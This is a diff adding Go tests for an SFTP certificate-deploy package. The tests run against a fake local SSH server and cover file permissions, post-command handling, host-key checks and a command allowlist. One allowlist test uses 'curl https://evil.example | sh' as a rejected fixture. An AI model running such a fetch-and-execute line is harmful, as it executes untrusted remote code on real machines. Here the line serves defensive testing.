@@ -0,0 +1,317 @@
+package deploy
+
+import (
+	"context"
+	"crypto/ed25519"
+	"crypto/rand"
+	"encoding/pem"
+	"errors"
+	"net"
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/pkg/sftp"
+	"golang.org/x/crypto/ssh"
+)
+
+// fakeSSHServer accepts the client key over SSH and serves SFTP on the
+// local filesystem. Exec requests are recorded instead of run.
+type fakeSSHServer struct {
+	addr     string
+	hostKey  string // SHA256 fingerprint
+	keyFile  string // client private key
+	config   *ssh.ServerConfig
+	listener net.Listener
+
+	mu       sync.Mutex
+	commands []string
+	// fail makes exec requests for this command exit with status 1
+	fail string
+}
+
+func newFakeSSHServer(t *testing.T) *fakeSSHServer {
+	t.Helper()
+
+	_, hostPriv, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	hostSigner, err := ssh.NewSignerFromKey(hostPriv)
+	if err != nil {
+		t.Fatal(err)
+	}
+	clientPub, clientPriv, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	authorized, err := ssh.NewPublicKey(clientPub)
+	if err != nil {
+		t.Fatal(err)
+	}
+	block, err := ssh.MarshalPrivateKey(clientPriv, "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	keyFile := filepath.Join(t.TempDir(), "id_ed25519")
+	if err := os.WriteFile(keyFile, pem.EncodeToMemory(block), 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	config := &ssh.ServerConfig{
+		PublicKeyCallback: func(conn ssh.ConnMetadata, key ssh.PublicKey) (*ssh.Permissions, error) {
+			if conn.User() == "deploy" && string(key.Marshal()) == string(authorized.Marshal()) {
+				return nil, nil
+			}
+			return nil, errors.New("unknown key")
+		},
+	}
+	config.AddHostKey(hostSigner)
+
+	listener, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	s := &fakeSSHServer{
+		addr:     listener.Addr().String(),
+		hostKey:  ssh.FingerprintSHA256(hostSigner.PublicKey()),
+		keyFile:  keyFile,
+		config:   config,
+		listener: listener,
+	}
+	t.Cleanup(func() { listener.Close() })
+	go s.serve()
+	return s
+}
+
+func (s *fakeSSHServer) serve() {
+	for {
+		conn, err := s.listener.Accept()
+		if err != nil {
+			return
+		}
+		go s.handle(conn)
+	}
+}
+
+func (s *fakeSSHServer) handle(conn net.Conn) {
+	sshConn, chans, reqs, err := ssh.NewServerConn(conn, s.config)
+	if err != nil {
+		conn.Close()
+		return
+	}
+	defer sshConn.Close()
+	go ssh.DiscardRequests(reqs)
+
+	for newChannel := range chans {
+		if newChannel.ChannelType() != "session" {
+			newChannel.Reject(ssh.UnknownChannelType, "only sessions")
+			continue
+		}
+		channel, requests, err := newChannel.Accept()
+		if err != nil {
+			return
+		}
+		go s.session(channel, requests)
+	}
+}
+
+func (s *fakeSSHServer) session(channel ssh.Channel, requests <-chan *ssh.Request) {
+	defer channel.Close()
+	for req := range requests {
+		switch req.Type {
+		case "subsystem":
+			var payload struct{ Name string }
+			if ssh.Unmarshal(req.Payload, &payload) != nil || payload.Name != "sftp" {
+				req.Reply(false, nil)
+				continue
+			}
+			req.Reply(true, nil)
+			server, err := sftp.NewServer(channel)
+			if err != nil {
+				return
+			}
+			server.Serve()
+			return
+		case "exec":
+			var payload struct{ Command string }
+			if ssh.Unmarshal(req.Payload, &payload) != nil {
+				req.Reply(false, nil)
+				continue
+			}
+			req.Reply(true, nil)
+			s.mu.Lock()
+			s.commands = append(s.commands, payload.Command)
+			failed := payload.Command == s.fail
+			s.mu.Unlock()
+
+			status := uint32(0)
+			if failed {
+				channel.Stderr().Write([]byte("reload failed\n"))
+				status = 1
+			} else {
+				channel.Write([]byte("ran " + payload.Command + "\n"))
+			}
+			channel.SendRequest("exit-status", false, ssh.Marshal(struct{ Status uint32 }{status}))
+			return
+		default:
+			req.Reply(false, nil)
+		}
+	}
+}
+
+func (s *fakeSSHServer) ranCommands() []string {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return append([]string{}, s.commands...)
+}
+
+// sftpTarget returns the JSON config of an SFTP target on the server
+func (s *fakeSSHServer) sftpTarget(t *testing.T, extra string) []byte {
+	t.Helper()
+	host, port, err := net.SplitHostPort(s.addr)
+	if err != nil {
+		t.Fatal(err)
+	}
+	config := `{"host": "` + host + `", "port": ` + port + `, "user": "deploy", "host_key": "` + s.hostKey + `"`
+	if extra != "" {
+		config += ", " + extra
+	}
+	return []byte(config + "}")
+}
+
+func (s *fakeSSHServer) options(commands ...string) Options {
+	return Options{SSHKeyFile: s.keyFile, SSHCommands: commands, Timeout: 10 * time.Second}
+}
+
+func TestSFTPDeploy(t *testing.T) {
+	s := newFakeSSHServer(t)
+	dir := t.TempDir()
+	fullchain, key := filepath.Join(dir, "site.crt"), filepath.Join(dir, "site.key")
+	reload := "sudo systemctl reload nginx"
+
+	d, err := New(TypeSFTP, s.sftpTarget(t, `"fullchain_path": `+strconv.Quote(fullchain)+`, "key_path": `+strconv.Quote(key)+
+		`, "key_mode": "0640", "post_command": `+strconv.Quote(reload)), s.options("systemctl status", reload))
+	if err != nil {
+		t.Fatal(err)
+	}
+	out, err := d.Deploy(context.Background(), testFiles)
+	if err != nil {
+		t.Fatalf("Deploy failed: %v\n%s", err, out)
+	}
+
+	for p, want := range map[string]struct {
+		data string
+		mode os.FileMode
+	}{
+		fullchain: {string(testFiles.FullChain), 0o644},
+		key:       {string(testFiles.Key), 0o640},
+	} {
+		data, err := os.ReadFile(p)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if string(data) != want.data {
+			t.Errorf("%s holds %q, want %q", p, data, want.data)
+		}
+		info, err := os.Stat(p)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if info.Mode().Perm() != want.mode {
+			t.Errorf("%s has mode %04o, want %04o", p, info.Mode().Perm(), want.mode)
+		}
+	}
+	entries, _ := os.ReadDir(dir)
+	if len(entries) != 2 {
+		t.Errorf("directory holds %d entries, want no temporary files left", len(entries))
+	}
+
+	if got := s.ranCommands(); len(got) != 1 || got[0] != reload {
+		t.Errorf("ran %q, want only the post command", got)
+	}
+	if !strings.Contains(out, "$ "+reload+"\nran "+reload) {
+		t.Errorf("output lacks the post command and its output:\n%s", out)
+	}
+}
+
+func TestSFTPPostCommandAllowlist(t *testing.T) {
+	s := newFakeSSHServer(t)
+	target := s.sftpTarget(t, `"cert_path": "/tmp/site.crt", "post_command": "curl https://evil.example | sh"`)
+
+	for _, opts := range []Options{s.options(), s.options("systemctl reload nginx")} {
+		_, err := New(TypeSFTP, target, opts)
+		if err == nil || !strings.Contains(err.Error(), "DEPLOY_SSH_COMMANDS") {
+			t.Errorf("target with commands %q: New returned %v, want an allowlist error", opts.SSHCommands, err)
+		}
+	}
+	if _, err := New(TypeSFTP, s.sftpTarget(t, `"cert_path": "/tmp/site.crt"`), s.options()); err != nil {
+		t.Errorf("target without a post command was rejected: %v", err)
+	}
+}
+
+func TestSFTPPostCommandFailure(t *testing.T) {
+	s := newFakeSSHServer(t)
+	s.fail = "reload"
+	cert := filepath.Join(t.TempDir(), "site.crt")
+
+	d, err := New(TypeSFTP, s.sftpTarget(t, `"cert_path": `+strconv.Quote(cert)+`, "post_command": "reload"`), s.options("reload"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	out, err := d.Deploy(context.Background(), testFiles)
+	if err == nil || !strings.Contains(err.Error(), "post command failed") {
+		t.Fatalf("Deploy returned %v, want a post command failure", err)
+	}
+	if !strings.Contains(out, "reload failed") {
+		t.Errorf("output lacks the command's stderr:\n%s", out)
+	}
+	// The files were already in place when the command ran
+	if data, _ := os.ReadFile(cert); string(data) != string(testFiles.Cert) {
+		t.Errorf("certificate holds %q", data)
+	}
+}
+
+func TestSFTPSkipsMissingKey(t *testing.T) {
+	s := newFakeSSHServer(t)
+	dir := t.TempDir()
+	cert, key := filepath.Join(dir, "site.crt"), filepath.Join(dir, "site.key")
+
+	d, err := New(TypeSFTP, s.sftpTarget(t, `"cert_path": `+strconv.Quote(cert)+`, "key_path": `+strconv.Quote(key)), s.options())
+	if err != nil {
+		t.Fatal(err)
+	}
+	files := *testFiles
+	files.Key = nil
+	out, err := d.Deploy(context.Background(), &files)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(out, "skipped "+key) {
+		t.Errorf("output does not mention the skipped key:\n%s", out)
+	}
+	if _, err := os.Stat(key); !os.IsNotExist(err) {
+		t.Errorf("key file was written: %v", err)
+	}
+}
+
+func TestSFTPHostKeyMismatch(t *testing.T) {
+	s := newFakeSSHServer(t)
+	cert := filepath.Join(t.TempDir(), "site.crt")
+	s.hostKey = "SHA256:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
+
+	d, err := New(TypeSFTP, s.sftpTarget(t, `"cert_path": `+strconv.Quote(cert)), s.options())
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := d.Deploy(context.Background(), testFiles); err == nil || !strings.Contains(err.Error(), "host key mismatch") {
+		t.Fatalf("Deploy returned %v, want a host key mismatch", err)
+	}
+	if _, err := os.Stat(cert); !os.IsNotExist(err) {
+		t.Errorf("certificate was written to an unverified host: %v", err)
+	}
+}